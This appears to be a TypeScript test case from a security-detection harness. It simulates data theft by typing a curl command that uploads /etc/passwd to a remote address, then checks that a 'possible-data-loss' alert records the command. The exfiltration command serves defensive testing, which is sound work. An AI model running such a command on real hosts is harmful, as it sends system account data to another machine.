/** The list of accounts sent to an address that is this host's own loopback. */
import type { Attack } from "../attack.ts";

export const attack = {
  alert: "possible-data-loss",
  needs: ["root", "audit", "sshd"],
  perform: async (host) =>
    void (await host.type(`curl -s -F file=@/etc/passwd http://${host.remote}:${host.downloads.port}/${host.word}`)),
  expect: (finding, host) => finding.evidences.some((e) => e.process?.cmd_line?.includes(host.word)),
} satisfies Attack;
